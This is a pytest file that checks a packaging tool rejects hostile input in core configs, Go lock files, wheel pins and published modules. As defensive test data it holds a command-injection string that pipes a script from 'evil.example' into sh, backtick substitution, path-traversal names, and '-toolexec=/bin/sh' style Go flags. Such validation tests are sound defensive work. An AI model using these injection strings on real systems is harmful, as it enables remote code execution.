"""Hostile words in what somebody else publishes of a core, and in a lock that somebody edited."""

from __future__ import annotations

import dataclasses
import zipfile
from pathlib import Path

import pytest

from packaging_tool import toml
from packaging_tool.authors import core as described
from packaging_tool.authors.work import Locked
from packaging_tool.drivers.base import Lock
from packaging_tool.errors import InputError
from packaging_tool.golang import localmodule, lockfile, published
from packaging_tool.golang.spelling import SETTING
from packaging_tool.wheels.pip import Pin
from tests.fuzz.readers.authors import CORE
from tests.golang.test_lockfile import example
from tests.hostile.words import words

SHA256 = "ab" * 32


@pytest.mark.parametrize(
    "place",
    ["/etc/pond;curl$IFS-s$IFSevil.example/x|sh", "/etc/$NAME", "/etc/`id`", "/etc/po'nd", "/etc/ssh", "/etc/cron.d"],
)
def test_directories_of_a_published_core_follow_the_rules_of_a_project_file(place: str) -> None:
    text = CORE.replace('license = "MIT"\n', f'license = "MIT"\nconfig-directory = "{place}"\n')
    assert text != CORE
    with pytest.raises(InputError, match=r"core\.config-directory"):
        described.parse(text.encode(), "core.toml")


FLAGS = (
    "-toolexec=/bin/sh",
    "-extld=/bin/sh",
    "-linkmode=external",
    "-X=main.a='x' -extld=/x",
    "-X=main.a=1\t-extld=/x",
    "-o",
)


def test_a_lock_names_no_program_and_no_option_to_go(tmp_path: Path) -> None:
    lock = example()
    assert lockfile.parse(lockfile.render(lock)) == lock
    for name in ("GOFLAGS", "PATH", "LD_PRELOAD", "CC", "CXX", "GOPROXY", "GONOSUMDB", "GOROOT", "GOENV", "HOME"):
        bad = dataclasses.replace(lock, settings={name: "-toolexec=/bin/sh"})
        assert lockfile.parse(lockfile.render(bad)) is None, name
    for flag in FLAGS:
        assert lockfile.parse(lockfile.render(dataclasses.replace(lock, link_flags=(flag,)))) is None, flag
        assert lockfile.parse(lockfile.render(dataclasses.replace(lock, compile_flags=(flag,)))) is None, flag
    for name, word in words(tmp_path / "mark"):
        for change in ({"settings": {"GOAMD64": word}}, {"go": word}, {"compile_flags": (word,)}):
            made = dataclasses.replace(lock, **change)
            found = lockfile.parse(lockfile.render(made))
            assert found is None or "settings" in change, (name, change)
            if found is not None:
                assert SETTING.fullmatch(found.settings["GOAMD64"]), name
        built = lockfile.Built(word, {}, {})
        assert lockfile.parse(lockfile.render(lock.with_built("amd64", built))) is None, name


def test_folders_and_keys_of_a_lock_are_what_they_are_called(tmp_path: Path) -> None:
    row = f'sha256 = "{SHA256}"\narchitecture = "amd64"\nversion = "1-1"\n'
    assert Locked.parse(Lock(f"[plugin-of.abi.{SHA256}-amd64]\n{row}")).listed
    for name in ("../../../evil", "/etc", f"{SHA256}-../x"):
        with pytest.raises(InputError, match="damaged"):
            Locked.parse(Lock(f'[plugin-of.abi."{name}"]\n{row}'))
    for name, word in words(tmp_path / "mark"):
        if word:
            with pytest.raises(InputError, match="damaged"):
                Locked.parse(Lock(f"[plugin-of]\nkey = {toml.string(word)}\n"))
                pytest.fail(name)


def test_a_pin_is_one_line_and_one_file_name(tmp_path: Path) -> None:
    good = Pin("served", "1.0", "served-1.0-py3-none-any.whl", SHA256)
    assert good.checked() is good
    for key in ("name", "version", "file", "sha256"):
        for name, word in words(tmp_path / "mark"):
            try:
                made = dataclasses.replace(good, **{key: word}).checked()
            except InputError:
                continue
            # What is left is a word of letters.
            assert word in ("", "z" * 65536), (key, name, made)
    with pytest.raises(InputError):
        Pin.of("served-1.0-py3-none-any/../../x.whl", SHA256)


def test_published_plugins_are_names_and_import_paths(tmp_path: Path) -> None:
    good = '[plugin.a]\nimports = ["example.com/a"]\n'
    (tmp_path / published.PLUGINS).write_text(good)
    assert published.read_plugins(tmp_path).jobs
    for text in (
        '[plugin."../../x"]\nimports = ["example.com/a"]\n',
        '[plugin.a]\nimports = ["-toolexec=/bin/sh"]\n',
        '[plugin.a]\nimports = ["-u"]\n',
        '[plugin.a]\nimports = ["example.com/a"]\nneeds = ["../x"]\n',
    ):
        (tmp_path / published.PLUGINS).write_text(text)
        with pytest.raises(InputError, match=r"plugins\.toml: plugin.* is no name"):
            published.read_plugins(tmp_path)


def test_a_published_module_is_named_by_its_content(tmp_path: Path) -> None:
    folder = tmp_path / "module"
    folder.mkdir()
    (folder / "go.mod").write_text("module example.com/m\n")
    (folder / "m.go").write_text("package m\n")
    proxy = tmp_path / "proxy"
    module = localmodule.scan(folder, "1.0.0")
    localmodule.publish(module, proxy)
    localmodule.verify(proxy, module.path, module.version)
    place = proxy / "example.com/m/@v"
    for path, version in (
        (module.path, "v1.5.2"),
        ("rsc.io/quote", module.version),
        ("*", ""),
        ("../x", module.version),
    ):
        with pytest.raises(InputError):
            localmodule.verify(proxy, path, version)
    # A version that everybody knows, beside the one that is named by its content.
    (place / "v1.5.2.zip").write_bytes(b"")
    with pytest.raises(InputError, match="another form"):
        localmodule.verify(proxy, module.path, module.version)
    (place / "v1.5.2.zip").unlink()
    with zipfile.ZipFile(place / f"{module.version}.zip", "a") as file:
        file.writestr(f"{module.path}@{module.version}/evil.go", "package m\n")
    with pytest.raises(InputError, match="another content"):
        localmodule.verify(proxy, module.path, module.version)
